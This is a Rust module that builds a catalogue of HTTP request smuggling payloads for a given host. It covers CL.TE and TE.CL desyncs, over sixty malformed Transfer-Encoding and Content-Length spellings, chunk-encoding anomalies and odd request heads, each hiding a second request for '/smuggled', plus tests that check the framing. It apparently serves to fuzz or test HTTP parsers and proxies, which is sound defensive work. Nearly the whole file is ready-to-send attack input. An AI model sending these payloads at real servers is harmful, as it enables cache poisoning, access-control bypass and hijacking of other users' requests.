//! Payloads in the style of the known classes of request smuggling. Each may hold a second request for `/smuggled`
//! where one reading of the framing sees a body and another does not.

pub struct Payload {
    pub name: String,
    pub bytes: Vec<u8>,
}

/// All of them, for a host.
pub fn all(host: &str) -> Vec<Payload> {
    let writer =
        Writer { host, smuggled: format!("GET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n") };
    let mut payloads = Vec::new();
    for (name, fields) in CODINGS {
        payloads.push(writer.length_hides(name, fields));
        payloads.push(writer.chunk_hides(name, fields));
    }
    payloads.extend(LENGTHS.iter().map(|(name, fields)| writer.length(name, fields)));
    payloads.extend(CHUNKS.iter().map(|(name, body)| writer.chunks(name, body)));
    payloads.extend(WHOLE.iter().map(|(name, text)| writer.whole(name, text)));
    payloads
}

/// Spellings of Transfer-Encoding that not everybody reads alike.
const CODINGS: &[(&str, &str)] = &[
    ("plain", "Transfer-Encoding: chunked"),
    ("space before", " Transfer-Encoding: chunked"),
    ("tab before", "\tTransfer-Encoding: chunked"),
    ("space before the colon", "Transfer-Encoding : chunked"),
    ("tab before the colon", "Transfer-Encoding\t: chunked"),
    ("no space", "Transfer-Encoding:chunked"),
    ("tab after the colon", "Transfer-Encoding:\tchunked"),
    ("unknown coding", "Transfer-Encoding: xchunked"),
    ("identity last", "Transfer-Encoding: chunked, identity"),
    ("identity first", "Transfer-Encoding: identity, chunked"),
    ("gzip first", "Transfer-Encoding: gzip, chunked"),
    ("chunked twice", "Transfer-Encoding: chunked, chunked"),
    ("two fields", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"),
    ("two fields, one unknown", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
    ("two fields, identity first", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
    ("quoted", "Transfer-Encoding: \"chunked\""),
    ("parameter", "Transfer-Encoding: chunked;q=1"),
    ("capitals", "TRANSFER-ENCODING: CHUNKED"),
    ("vertical tab", "Transfer-Encoding: \u{b}chunked"),
    ("form feed after", "Transfer-Encoding: chunked\u{c}"),
    ("NUL in the name", "Transfer-Encoding\0: chunked"),
    ("NUL in the value", "Transfer-Encoding: chun\0ked"),
    ("behind a bare LF", "X-Before: x\nTransfer-Encoding: chunked"),
    ("behind a bare CR", "X-Before: x\rTransfer-Encoding: chunked"),
    ("bare CR after", "Transfer-Encoding: chunked\r"),
    ("folded", "Transfer-Encoding:\r\n chunked"),
    ("folded before", "X-Before: x\r\n Transfer-Encoding: chunked"),
    ("underscore", "Transfer_Encoding: chunked"),
    ("no-break space", "Transfer-Encoding: \u{a0}chunked"),
    ("empty", "Transfer-Encoding:"),
    ("comma before", "Transfer-Encoding: ,chunked"),
    ("comma after", "Transfer-Encoding: chunked,"),
    ("other field", "Content-Encoding: chunked"),
    ("named by Connection", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked"),
    ("length named by Connection", "Connection: Content-Length\r\nTransfer-Encoding: chunked"),
];

/// `{n}` is the length of a request that stands in the body.
const LENGTHS: &[(&str, &str)] = &[
    ("twice the same", "Content-Length: {n}\r\nContent-Length: {n}"),
    ("zero and the length", "Content-Length: 0\r\nContent-Length: {n}"),
    ("the length and zero", "Content-Length: {n}\r\nContent-Length: 0"),
    ("a list of the same", "Content-Length: {n}, {n}"),
    ("a list", "Content-Length: 0, {n}"),
    ("plus", "Content-Length: +{n}"),
    ("minus", "Content-Length: -{n}"),
    ("hexadecimal", "Content-Length: 0x{n}"),
    ("zero before", "Content-Length: 0{n}"),
    ("space within", "Content-Length: 0 {n}"),
    ("decimal point", "Content-Length: {n}.0"),
    ("exponent", "Content-Length: 1e2"),
    ("NUL after", "Content-Length: {n}\0"),
    ("vertical tab before", "Content-Length: \u{b}{n}"),
    ("underscores", "Content-Length: 1_0"),
    ("space before the colon", "Content-Length : {n}"),
    ("space before", " Content-Length: {n}"),
    ("folded", "Content-Length:\r\n {n}"),
    ("empty", "Content-Length:"),
    ("beyond 64 bits", "Content-Length: 18446744073709551616"),
    ("beyond 64 bits by the length", "Content-Length: 184467440737095516{n}"),
    ("named by Connection", "Connection: Content-Length\r\nContent-Length: {n}"),
    ("underscore in the name", "Content_Length: {n}"),
    ("behind a bare LF", "X-Before: x\nContent-Length: {n}"),
    ("full-width digits", "Content-Length: \u{ff11}\u{ff10}"),
];

/// Bodies of a chunked request. `{s}` is a request, `{x}` its length in hexadecimal.
const CHUNKS: &[(&str, &str)] = &[
    ("extension", "3;a=b\r\nabc\r\n0\r\n\r\n"),
    ("extension with a bare LF", "3;a\nabc\r\n0\r\n\r\n{s}"),
    ("extension that hides a chunk", "2;\nxx\r\n{x}\r\n{s}\r\n0\r\n\r\n"),
    ("extension with a bare CR", "3;a\rb\r\nabc\r\n0\r\n\r\n"),
    ("extension in quotes with CRLF", "3;a=\"\r\n\"\r\nabc\r\n0\r\n\r\n"),
    ("size with 0x", "0x3\r\nabc\r\n0\r\n\r\n"),
    ("size with plus", "+3\r\nabc\r\n0\r\n\r\n"),
    ("size with minus", "-3\r\nabc\r\n0\r\n\r\n"),
    ("size with space before", " 3\r\nabc\r\n0\r\n\r\n"),
    ("size with space after", "3 \r\nabc\r\n0\r\n\r\n"),
    ("size with tab after", "3\t\r\nabc\r\n0\r\n\r\n"),
    ("size with underscore", "0_3\r\nabc\r\n0\r\n\r\n"),
    ("size with zeros", "0000000000000003\r\nabc\r\n0\r\n\r\n"),
    ("size beyond 64 bits", "10000000000000003\r\nabc\r\n0\r\n\r\n{s}"),
    ("size near 64 bits", "fffffffffffffffe\r\nabc\r\n0\r\n\r\n"),
    ("size ends in bare LF", "3\nabc\n0\n\n{s}"),
    ("size ends in bare CR", "3\rabc\r\n0\r\n\r\n"),
    ("last size ends in bare LF", "3\r\nabc\r\n0\n\n{s}"),
    ("no end of the data", "3\r\nabc0\r\n\r\n{s}"),
    ("two bytes instead of an end", "3\r\nabcXX0\r\n\r\n{s}"),
    ("data longer than its size", "3\r\nabcdef\r\n0\r\n\r\n"),
    ("empty size", "\r\nabc\r\n0\r\n\r\n"),
    ("last chunk with zeros", "3\r\nabc\r\n000\r\n\r\n"),
    ("no last chunk", "3\r\nabc\r\n{s}"),
    ("trailer with a length", "3\r\nabc\r\n0\r\nContent-Length: 40\r\n\r\n{s}"),
    ("trailer with a coding", "3\r\nabc\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n{s}"),
    ("trailer with a host", "3\r\nabc\r\n0\r\nHost: other.test\r\n\r\n"),
    ("trailer with a bare LF", "3\r\nabc\r\n0\r\nX: y\nZ: z\r\n\r\n"),
    ("trailer without a colon", "3\r\nabc\r\n0\r\nno colon\r\n\r\n"),
    ("trailer that ends in bare LF", "3\r\nabc\r\n0\r\nX: y\r\n\n{s}"),
];

/// Whole requests. `{h}` is the host, `{s}` a request, `{n}` its length.
const WHOLE: &[(&str, &str)] = &[
    ("pipelined", "GET /a HTTP/1.1\r\nHost: {h}\r\n\r\n{s}"),
    ("GET with a length", "GET /a HTTP/1.1\r\nHost: {h}\r\nContent-Length: {n}\r\n\r\n{s}"),
    (
        "GET with chunks",
        "GET /a HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
    ),
    ("DELETE with a length", "DELETE /a HTTP/1.1\r\nHost: {h}\r\nContent-Length: {n}\r\n\r\n{s}"),
    (
        "length of 0, then a request",
        "POST /a HTTP/1.1\r\nHost: {h}\r\nContent-Length: 0\r\n\r\n{s}",
    ),
    ("no length, then a request", "POST /a HTTP/1.1\r\nHost: {h}\r\n\r\n{s}"),
    ("bare LF throughout", "GET /a HTTP/1.1\nHost: {h}\n\n{s}"),
    ("bare LF after the request line", "GET /a HTTP/1.1\nHost: {h}\r\n\r\n{s}"),
    ("bare LF ends the head", "GET /a HTTP/1.1\r\nHost: {h}\r\nX: y\n\n{s}"),
    ("LF and CRLF end the head", "GET /a HTTP/1.1\r\nHost: {h}\r\nX: y\n\r\n{s}"),
    ("bare CR in a value", "GET /a HTTP/1.1\r\nHost: {h}\r\nX: y\rZ: z\r\n\r\n"),
    ("CR CR LF", "GET /a HTTP/1.1\r\nHost: {h}\r\r\n\r\n{s}"),
    ("empty lines before", "\r\n\r\nGET /a HTTP/1.1\r\nHost: {h}\r\n\r\n"),
    ("bare LF before", "\nGET /a HTTP/1.1\r\nHost: {h}\r\n\r\n"),
    ("space before the first field", "GET /a HTTP/1.1\r\n Host: {h}\r\n\r\n{s}"),
    ("space line", "GET /a HTTP/1.1\r\nHost: {h}\r\n \r\n{s}"),
    ("field without a colon", "GET /a HTTP/1.1\r\nHost: {h}\r\nno colon\r\n\r\n{s}"),
    ("field without a name", "GET /a HTTP/1.1\r\nHost: {h}\r\n: value\r\n\r\n{s}"),
    ("NUL in a value", "GET /a HTTP/1.1\r\nHost: {h}\r\nX: a\0b\r\n\r\n{s}"),
    (
        "a request in a value",
        "GET /a HTTP/1.1\r\nHost: {h}\r\nX: a\n\nGET /smuggled HTTP/1.1\r\n\r\n",
    ),
    ("absolute form", "GET http://{h}/a HTTP/1.1\r\nHost: {h}\r\n\r\n"),
    ("absolute form of another host", "GET http://other.test/a HTTP/1.1\r\nHost: {h}\r\n\r\n{s}"),
    ("host of another, absolute form", "GET http://{h}/a HTTP/1.1\r\nHost: other.test\r\n\r\n{s}"),
    ("user in the absolute form", "GET http://{h}@other.test/a HTTP/1.1\r\nHost: {h}\r\n\r\n"),
    ("two hosts", "GET /a HTTP/1.1\r\nHost: {h}\r\nHost: other.test\r\n\r\n{s}"),
    ("space in the target", "GET /a /b HTTP/1.1\r\nHost: {h}\r\n\r\n{s}"),
    ("tab in the request line", "GET\t/a\tHTTP/1.1\r\nHost: {h}\r\n\r\n"),
    ("version in the target", "GET /a HTTP/1.1 HTTP/1.1\r\nHost: {h}\r\n\r\n{s}"),
    ("no version", "GET /smuggled\r\n"),
    ("version 1.0", "GET /a HTTP/1.0\r\nHost: {h}\r\n\r\n{s}"),
    ("version 1.0, kept", "GET /a HTTP/1.0\r\nHost: {h}\r\nConnection: keep-alive\r\n\r\n{s}"),
    (
        "version 1.0 with chunks",
        "POST /a HTTP/1.0\r\nHost: {h}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
    ),
    (
        "version 1.0 with both framings",
        "POST /a HTTP/1.0\r\nHost: {h}\r\nConnection: keep-alive\r\nContent-Length: {n}\r\n\
         Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
    ),
    ("version 1.2", "GET /a HTTP/1.2\r\nHost: {h}\r\n\r\n"),
    ("version 2.0", "GET /a HTTP/2.0\r\nHost: {h}\r\n\r\n{s}"),
    ("version in small letters", "GET /a http/1.1\r\nHost: {h}\r\n\r\n{s}"),
    (
        "Expect with its body at once",
        "POST /a HTTP/1.1\r\nHost: {h}\r\nExpect: 100-continue\r\nContent-Length: {n}\r\n\r\n{s}",
    ),
    (
        "Expect of a GET",
        "GET /a HTTP/1.1\r\nHost: {h}\r\nExpect: 100-continue\r\nContent-Length: {n}\r\n\r\n{s}",
    ),
    (
        "Expect of something else",
        "POST /a HTTP/1.1\r\nHost: {h}\r\nExpect: y 100-continue\r\nContent-Length: {n}\r\n\r\n{s}",
    ),
    (
        "Expect with both framings",
        "POST /a HTTP/1.1\r\nHost: {h}\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\
         Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
    ),
    (
        "upgrade to h2c with a body",
        "POST /a HTTP/1.1\r\nHost: {h}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\
         HTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: {n}\r\n\r\n{s}",
    ),
    (
        "upgrade that is declined",
        "GET /a HTTP/1.1\r\nHost: {h}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 777\r\n\r\n{s}",
    ),
    ("CONNECT", "CONNECT {h}:80 HTTP/1.1\r\nHost: {h}:80\r\n\r\n{s}"),
    ("OPTIONS *", "OPTIONS * HTTP/1.1\r\nHost: {h}\r\n\r\n"),
    ("method with odd letters", "GE\0T /a HTTP/1.1\r\nHost: {h}\r\n\r\n{s}"),
    (
        "unknown method with a length",
        "FOO /a HTTP/1.1\r\nHost: {h}\r\nContent-Length: {n}\r\n\r\n{s}",
    ),
];

struct Writer<'a> {
    host: &'a str,
    smuggled: String,
}

impl Writer<'_> {
    /// By the length the request is body, by the chunks it follows (CL.TE).
    fn length_hides(&self, name: &str, fields: &str) -> Payload {
        let body = format!("0\r\n\r\n{}", self.smuggled);
        let fields = format!("Content-Length: {}\r\n{fields}", body.len());
        self.post(format!("CL.TE, {name}"), &fields, &body)
    }

    /// By the chunks the request is body, by the length it follows (TE.CL).
    fn chunk_hides(&self, name: &str, fields: &str) -> Payload {
        let size = format!("{:x}\r\n", self.smuggled.len());
        let body = format!("{size}{}\r\n0\r\n\r\n", self.smuggled);
        let fields = format!("{fields}\r\nContent-Length: {}", size.len());
        self.post(format!("TE.CL, {name}"), &fields, &body)
    }

    fn length(&self, name: &str, fields: &str) -> Payload {
        let fields = fields.replace("{n}", &self.smuggled.len().to_string());
        self.post(format!("length, {name}"), &fields, &self.smuggled)
    }

    fn chunks(&self, name: &str, body: &str) -> Payload {
        let body = body.replace("{x}", &format!("{:x}", self.smuggled.len()));
        let body = body.replace("{s}", &self.smuggled);
        self.post(format!("chunks, {name}"), "Transfer-Encoding: chunked", &body)
    }

    fn post(&self, name: String, fields: &str, body: &str) -> Payload {
        let host = self.host;
        let text = format!("POST /payload HTTP/1.1\r\nHost: {host}\r\n{fields}\r\n\r\n{body}");
        Payload { name, bytes: bytes(&text) }
    }

    fn whole(&self, name: &str, text: &str) -> Payload {
        let length = self.smuggled.len().to_string();
        let text = text.replace("{h}", self.host).replace("{n}", &length);
        let text = text.replace("{s}", &self.smuggled);
        Payload { name: format!("head, {name}"), bytes: bytes(&text) }
    }
}

/// A letter below U+0100 stands for one byte.
fn bytes(text: &str) -> Vec<u8> {
    let mut bytes = Vec::with_capacity(text.len());
    for letter in text.chars() {
        match u8::try_from(letter) {
            Ok(byte) => bytes.push(byte),
            Err(_) => bytes.extend(letter.to_string().into_bytes()),
        }
    }
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn each_payload_is_one_of_its_own() {
        let payloads = all("a.test");
        let names: BTreeSet<&str> = payloads.iter().map(|payload| payload.name.as_str()).collect();
        let texts: BTreeSet<&[u8]> = payloads.iter().map(|payload| &payload.bytes[..]).collect();
        assert_eq!((names.len(), texts.len()), (payloads.len(), payloads.len()));
        assert!(payloads.len() >= 60, "{}", payloads.len());
        for payload in payloads {
            let text = String::from_utf8_lossy(&payload.bytes).into_owned();
            assert!(!text.contains(['{', '}']), "{}: {text}", payload.name);
        }
    }

    #[test]
    fn both_framings_are_whole_by_their_own_reading() {
        let payloads = all("a.test");
        let text = |name: &str| {
            let found = payloads.iter().find(|payload| payload.name == name).unwrap();
            String::from_utf8(found.bytes.clone()).unwrap()
        };
        let (head, body) = text("CL.TE, plain").split_once("\r\n\r\n").map(own).unwrap();
        assert!(head.contains(&format!("Content-Length: {}\r\n", body.len())), "{head}");
        assert!(body.starts_with("0\r\n\r\nGET /smuggled"), "{body}");
        let (_, body) = text("TE.CL, plain").split_once("\r\n\r\n").map(own).unwrap();
        let size = usize::from_str_radix(body.split("\r\n").next().unwrap(), 16).unwrap();
        assert_eq!(body.len(), 4 + size + "\r\n0\r\n\r\n".len());
    }

    fn own((head, body): (&str, &str)) -> (String, String) {
        (head.to_owned(), body.to_owned())
    }
}
